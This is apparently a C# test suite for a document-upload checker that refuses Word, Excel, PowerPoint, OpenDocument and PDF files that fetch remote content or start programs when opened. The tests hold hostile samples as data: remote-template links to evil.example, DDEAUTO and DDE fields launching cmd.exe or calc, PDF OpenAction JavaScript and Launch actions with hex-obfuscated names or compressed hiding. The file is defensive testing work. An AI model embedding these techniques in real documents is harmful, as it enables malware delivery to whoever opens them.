using System.IO.Compression;
using System.Text;
using Concord.Kernel.Files.Content;
using Concord.Tests.House;

namespace Concord.Kernel.Tests.Files;

/// <summary>What a document would fetch or start by itself when somebody opens it.</summary>
public sealed class DocumentsThatActTests
{
    private const string Types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    [Theory]
    [InlineData("file://evil.example/share/t.dotm")]
    [InlineData("FILE:////evil.example/share/t.dotm")]
    [InlineData(@"file:///\\evil.example\share\t.dotm")]
    [InlineData("file:///%5C%5Cevil.example%5Cshare%5Ct.dotm")]
    [InlineData("file:///?/UNC/evil.example/share/t.dotm")]
    [InlineData(@"\\evil.example\share\t.dotm")]
    [InlineData(@"\\?\UNC\evil.example\share\t.dotm")]
    [InlineData("//evil.example/share/t.dotm")]
    [InlineData("https://evil.example/t.dotm")]
    [InlineData("ms-word:ofe|u|https://evil.example/t.dotm")]
    [InlineData(" http://evil.example/t.dotm")]
    public void A_document_that_fetches_a_template_from_another_machine_is_refused(string target) => Refused(FileFault.LinksTemplate, "a.docx", Related("word/_rels/settings.xml.rels", "attachedTemplate", target));

    [Theory]
    [InlineData("file:///C:\\Users\\li\\Templates\\Normal.dotm")]
    [InlineData("file:///C:/Users/li/Templates/Normal.dotm")]
    [InlineData("C:\\Users\\li\\Normal.dotm")]
    [InlineData("file:///home/li/t.dotx")]
    [InlineData("t.dotx")]
    [InlineData("/word/glossary/document.xml")]
    public void A_template_on_the_readers_own_disk_harms_nobody(string target) => Taken("a.docx", Related("word/_rels/settings.xml.rels", "attachedTemplate", target));

    [Theory]
    [InlineData("image"), InlineData("oleObject"), InlineData("frame"), InlineData("subDocument"), InlineData("video"), InlineData("mailMergeSource"), InlineData("aFChunk")]
    public void A_document_that_fetches_a_part_of_itself_from_another_machine_is_refused(string type) => Refused(FileFault.LinksTemplate, "a.docx", Related("word/_rels/document.xml.rels", type, "https://evil.example/x"));

    [Fact]
    public void A_link_that_a_reader_may_click_is_the_readers() => Taken("a.docx", Related("word/_rels/document.xml.rels", "hyperlink", "https://www.example.org/report"));

    [Fact]
    public void A_workbook_that_asks_another_one_elsewhere_or_a_program_is_refused()
    {
        Refused(FileFault.LinksTemplate, "a.xlsx", Workbook("xl/externalLinks/_rels/externalLink1.xml.rels", Relation("externalLinkPath", @"file:///\\evil.example\share\b.xlsx")));
        Refused(FileFault.HoldsProgram, "a.xlsx", Workbook("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"));
        Refused(FileFault.LinksTemplate, "a.xlsx", Workbook("xl/connections.xml", "<connections><connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"https://evil.example\"/></connection></connections>"));
        Taken("a.xlsx", Workbook("xl/externalLinks/_rels/externalLink1.xml.rels", Relation("externalLinkPath", "figures of 2021.xlsx")));
    }

    [Theory]
    [InlineData("<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'/>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText xml:space='preserve'> dde x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/><w:instrText> </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType='end'/></w:r>")]
    public void A_field_that_starts_a_program_is_refused(string field) => Refused(FileFault.HoldsProgram, "a.docx", AFile.Docx("", ("word/document.xml", Body(field))));

    [Theory]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>TOC \\o \"1-3\"</w:instrText><w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/><w:instrText>PAGEREF _1</w:instrText><w:fldChar w:fldCharType='end'/><w:fldChar w:fldCharType='end'/></w:r>")]
    [InlineData("<w:fldSimple w:instr='DATE'/><w:p><w:r><w:t>DDEAUTO is a field</w:t></w:r></w:p>")]
    public void Fields_that_every_report_has_are_taken(string field) => Taken("a.docx", AFile.Docx("", ("word/document.xml", Body(field))));

    [Fact]
    public void A_slide_that_starts_a_program_is_refused() => Refused(FileFault.HoldsProgram, "a.pptx", AFile.Docx("", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ("ppt/slides/slide1.xml", AFile.Utf8("<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkMouseOver action='ppaction://program'/></p:sld>"))));

    [Theory]
    [InlineData("<d:image xlink:href='https://evil.example/p.png'/>", FileFault.LinksTemplate)]
    [InlineData("<t:section-source xlink:href='file://evil.example/share/a.odt'/>", FileFault.LinksTemplate)]
    [InlineData("<d:object xlink:href='//evil.example/share/a.ods'/>", FileFault.LinksTemplate)]
    [InlineData("<o:dde-source o:dde-application='soffice' o:dde-topic='x'/>", FileFault.HoldsProgram)]
    [InlineData("<t:cell t:formula='of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A&quot;)'/>", FileFault.HoldsProgram)]
    [InlineData("<t:a xlink:href='vnd.sun.star.script:a.py$run?language=Python'/>", FileFault.HasMacros)]
    public void An_OpenDocument_that_fetches_or_starts_something_is_refused(string element, FileFault fault) => Refused(fault, "a.odt", AFile.Odt("x", ("Object 1/content.xml", Linked(element))));

    [Fact]
    public void An_OpenDocument_may_hold_pictures_of_its_own_and_links_to_click() =>
        Taken("a.odt", AFile.Odt("x", ("Object 1/content.xml", Linked("<d:image xlink:href='Pictures/1.png'/><t:a xlink:href='https://www.example.org'/><d:object xlink:href='./Object 2'/>"))));

    [Theory]
    [InlineData("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>")]
    [InlineData("/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>")]
    [InlineData("/OpenAction << /S /L#61unch /F (cmd.exe) >>")]
    public void A_PDF_that_writes_its_action_by_numbers_is_refused(string action) => Refused(FileFault.HasScript, "a.pdf", AFile.Pdf(more: action));

    [Theory]
    [InlineData("/Filter /FlateDecode", FileFault.HasScript)]
    [InlineData("/Filter [/Fl]", FileFault.HasScript)]
    [InlineData("/F#69lter /FlateDecode", FileFault.HasScript)]
    [InlineData("/Filter [/ASCIIHexDecode /FlateDecode]", FileFault.Sealed)]
    [InlineData("/Filter [/FlateDecode /FlateDecode]", FileFault.Sealed)]
    [InlineData("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", FileFault.Sealed)]
    public void A_PDF_that_hides_its_action_in_a_packed_object_is_refused(string filter, FileFault fault) =>
        Refused(fault, "a.pdf", Holding("6 0 << /S /JavaScript /JS (app.alert(1)) >>", filter));

    [Fact]
    public void A_PDF_whose_objects_are_packed_is_taken_where_they_only_say_something() => Taken("a.pdf", Holding("6 0 << /Type /Font /Subtype /Type1 >>", "/Filter /FlateDecode"));

    [Fact]
    public void A_PDF_that_is_locked_is_refused() => Refused(FileFault.Sealed, "a.pdf", WithStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", [.. Enumerable.Repeat((byte)0xA7, 200)]));

    [Fact]
    public void A_PDF_whose_objects_unpack_without_end_is_refused() =>
        Assert.Equal(FileFault.Expands, ContentCheck.Examine(new MemoryStream(Holding(new string(' ', 2 << 20), "/Filter /FlateDecode")), "a.pdf", new ContentLimits(Unpacked: 1 << 20)).Refusal?.Fault);

    [Fact]
    public void An_action_is_seen_wherever_it_stands_in_a_long_PDF()
    {
        foreach (var before in new[] { (1 << 20) - 400, (1 << 20) - 360, (1 << 20) - 331 })
            for (var shift = 0; shift < 32; shift++)
                Refused(FileFault.HasScript, "a.pdf", AFile.Pdf(more: new string(' ', before + shift) + "/OpenAction << /S /J#61vaScript >> "));
    }

    private static byte[] Holding(string objects, string filter)
    {
        var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            deflate.Write(Encoding.ASCII.GetBytes(objects));
        return WithStream($"/Type /ObjStm /N 1 /First 4 {filter}", packed.ToArray());
    }

    private static byte[] WithStream(string dictionary, byte[] content)
    {
        var plain = AFile.Pdf();
        var end = plain.AsSpan().IndexOf("xref\n"u8);
        return [.. plain[..end], .. Encoding.ASCII.GetBytes($"7 0 obj\n<< {dictionary} /Length {content.Length} >>\nstream\r\n"), .. content, .. "\nendstream\nendobj\n"u8, .. plain[end..]];
    }

    private static byte[] Related(string part, string type, string target) => AFile.Docx("x", (part, AFile.Utf8(Relation(type, target))));

    private static byte[] Workbook(string part, string xml) => AFile.Docx("1", AFile.Sheet, (part, AFile.Utf8(xml)));

    private static string Relation(string type, string target) =>
        $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"{Types}{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>";

    private static byte[] Body(string inner) => AFile.Utf8($"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>{inner}</w:p></w:body></w:document>");

    private static byte[] Linked(string inner) => AFile.Utf8($"<c xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:d='d' xmlns:t='t' xmlns:o='o'>{inner}</c>");

    private static void Refused(FileFault fault, string name, byte[] file) => Assert.Equal(fault, ContentCheck.Examine(new MemoryStream(file), name, ContentLimits.Usual).Refusal?.Fault);

    private static void Taken(string name, byte[] file) => Assert.Equal(FileType.OfName(name), ContentCheck.Examine(new MemoryStream(file), name, ContentLimits.Usual).Type);
}
